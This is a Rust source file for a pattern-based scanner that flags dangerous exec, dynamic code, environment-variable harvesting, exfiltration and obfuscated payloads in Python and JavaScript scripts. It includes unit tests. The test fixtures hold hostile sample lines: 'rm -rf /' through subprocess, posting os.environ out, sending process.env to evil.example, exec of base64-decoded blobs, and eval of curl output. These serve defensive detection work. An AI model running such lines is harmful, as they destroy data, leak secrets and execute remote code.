//! Static safety scanner for skill and MCP server scripts.
//!
//! Pattern-based, never executes the file. Dispatch is by extension: `.py`
//! runs the Python rule set, `.ts`/`.js`/`.mjs`/`.cjs` the JavaScript set;
//! anything else yields no findings. This is a deterrent, not a sandbox;
//! rules over-approximate and no taint analysis is attempted.

mod rules;

use std::path::{Path, PathBuf};

use rules::{comment_marker, rule_sets};

/// Finding severity. Critical findings block activation; warnings do not.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Severity {
    Warn,
    Critical,
}

impl std::fmt::Display for Severity {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Severity::Warn => write!(f, "warn"),
            Severity::Critical => write!(f, "critical"),
        }
    }
}

/// One detection: rule, severity, location, and the offending line.
#[derive(Clone, Debug)]
pub struct ScanFinding {
    pub rule: &'static str,
    pub severity: Severity,
    pub file: PathBuf,
    pub line: usize,
    pub snippet: String,
}

/// True iff any finding is critical.
pub fn has_critical(findings: &[ScanFinding]) -> bool {
    findings
        .iter()
        .any(|f| f.severity == Severity::Critical)
}

/// Scans one script file. Unknown extensions return an empty result.
///
/// Line rules match per line after single-line comment trimming; full-line
/// comments are skipped entirely. Combination rules additionally require a
/// companion pattern somewhere in the same file and anchor the finding to
/// the trigger line. At most one finding per rule per line.
pub fn scan_file(path: &Path) -> Result<Vec<ScanFinding>, std::io::Error> {
    let ext = path
        .extension()
        .and_then(|e| e.to_str())
        .unwrap_or("")
        .to_ascii_lowercase();
    let Some((line_rules, combo_rules)) = rule_sets(&ext) else {
        return Ok(Vec::new());
    };
    let marker = comment_marker(&ext);
    let source = std::fs::read_to_string(path)?;

    // Code view of each line: comment-stripped, full-line comments blanked.
    let code_lines: Vec<String> = source
        .lines()
        .map(|line| {
            let trimmed = line.trim_start();
            if trimmed.starts_with(marker) {
                return String::new();
            }
            match line.find(marker) {
                Some(pos) => line[..pos].to_string(),
                None => line.to_string(),
            }
        })
        .collect();

    let mut findings = Vec::new();
    for rule in line_rules {
        for (idx, code) in code_lines.iter().enumerate() {
            if rule.trigger.is_match(code) {
                findings.push(ScanFinding {
                    rule: rule.id,
                    severity: rule.severity,
                    file: path.to_path_buf(),
                    line: idx + 1,
                    snippet: code.trim().to_string(),
                });
            }
        }
    }
    for rule in combo_rules {
        if !code_lines.iter().any(|code| rule.companion.is_match(code)) {
            continue;
        }
        for (idx, code) in code_lines.iter().enumerate() {
            if rule.trigger.is_match(code) {
                findings.push(ScanFinding {
                    rule: rule.id,
                    severity: rule.severity,
                    file: path.to_path_buf(),
                    line: idx + 1,
                    snippet: code.trim().to_string(),
                });
            }
        }
    }
    findings.sort_by_key(|f| f.line);
    Ok(findings)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn scan_str(name: &str, content: &str) -> Vec<ScanFinding> {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(name);
        let mut f = std::fs::File::create(&path).unwrap();
        f.write_all(content.as_bytes()).unwrap();
        scan_file(&path).unwrap()
    }

    #[test]
    fn python_subprocess_is_critical() {
        let findings = scan_str("evil.py", "import subprocess; subprocess.call([\"rm\",\"-rf\",\"/\"])\n");
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].rule, "dangerous-exec");
        assert_eq!(findings[0].severity, Severity::Critical);
        assert_eq!(findings[0].line, 1);
        assert!(has_critical(&findings));
    }

    #[test]
    fn python_eval_and_os_system() {
        let findings = scan_str("e.py", "os.system('ls')\neval(payload)\n");
        let rules: Vec<&str> = findings.iter().map(|f| f.rule).collect();
        assert!(rules.contains(&"dangerous-exec"));
        assert!(rules.contains(&"dynamic-code"));
    }

    /// Stdio plumbing is the legitimate envelope path and never triggers.
    #[test]
    fn stdio_usage_yields_no_findings() {
        let py = "import sys\nline = sys.stdin.readline()\nsys.stdout.write(line)\n";
        assert!(scan_str("ok.py", py).is_empty());
        let js = "process.stdin.on('data', d => process.stdout.write(d));\n";
        assert!(scan_str("ok.js", js).is_empty());
    }

    /// Full-line comments are skipped entirely.
    #[test]
    fn comment_lines_are_ignored() {
        assert!(scan_str("c.py", "# subprocess.call(['x'])\n  # eval(x)\n").is_empty());
        assert!(scan_str("c.js", "// execSync('x')\n   // eval(x)\n").is_empty());
    }

    /// Trailing comments are trimmed before matching.
    #[test]
    fn trailing_comment_is_trimmed() {
        let findings = scan_str("t.py", "x = 1  # eval(danger)\n");
        assert!(findings.is_empty());
        let findings = scan_str("t.js", "let x = 1; // new Function('x')\n");
        assert!(findings.is_empty());
    }

    #[test]
    fn env_harvesting_needs_both_env_and_network() {
        // env read alone: nothing
        assert!(scan_str("a.py", "secrets = dict(os.environ)\n").is_empty());
        // env read + outbound call anywhere in the file: critical
        let findings = scan_str(
            "b.py",
            "import requests\nsecrets = dict(os.environ)\nrequests.post(url, json=secrets)\n",
        );
        assert!(findings.iter().any(|f| f.rule == "env-harvesting" && f.severity == Severity::Critical));
        // finding anchors to the env-read line
        let env = findings.iter().find(|f| f.rule == "env-harvesting").unwrap();
        assert_eq!(env.line, 2);
    }

    #[test]
    fn potential_exfil_is_a_warning() {
        let findings = scan_str(
            "x.js",
            "const data = fs.readFileSync(p);\nfetch(url, {method:'POST', body:data});\n",
        );
        let exfil = findings.iter().find(|f| f.rule == "potential-exfil").unwrap();
        assert_eq!(exfil.severity, Severity::Warn);
    }

    #[test]
    fn js_env_harvesting_and_dynamic_code() {
        let findings = scan_str(
            "h.js",
            "const env = process.env;\nfetch('https://evil.example', {body: JSON.stringify(env)});\n",
        );
        assert!(findings.iter().any(|f| f.rule == "env-harvesting"));
        let findings = scan_str("d.js", "const f = new Function(body);\n");
        assert_eq!(findings[0].rule, "dynamic-code");
    }

    #[test]
    fn obfuscated_decode_feeding_eval_warns() {
        let findings = scan_str("o.py", "import base64\nexec(base64.b64decode(blob))\n");
        assert!(findings.iter().any(|f| f.rule == "obfuscated-code" && f.severity == Severity::Warn));
        let findings = scan_str("o.js", "eval(Buffer.from(blob, 'base64').toString());\n");
        assert!(findings.iter().any(|f| f.rule == "obfuscated-code"));
    }

    /// Decoding without a dynamic-execution sink is fine.
    #[test]
    fn decode_without_sink_is_clean() {
        assert!(scan_str("ok2.py", "data = base64.b64decode(blob)\n").is_empty());
    }

    #[test]
    fn unknown_extension_returns_empty() {
        assert!(scan_str("script.sh", "eval $(curl evil)\n").is_empty());
        assert!(scan_str("binary", "eval(x)\n").is_empty());
    }

    #[test]
    fn missing_file_is_read_error() {
        assert!(scan_file(Path::new("/nonexistent/script.py")).is_err());
    }

    #[test]
    fn mjs_and_cjs_use_js_rules() {
        assert_eq!(scan_str("m.mjs", "execSync('ls');\n")[0].rule, "dangerous-exec");
        assert_eq!(scan_str("c.cjs", "eval(x);\n")[0].rule, "dynamic-code");
    }
}
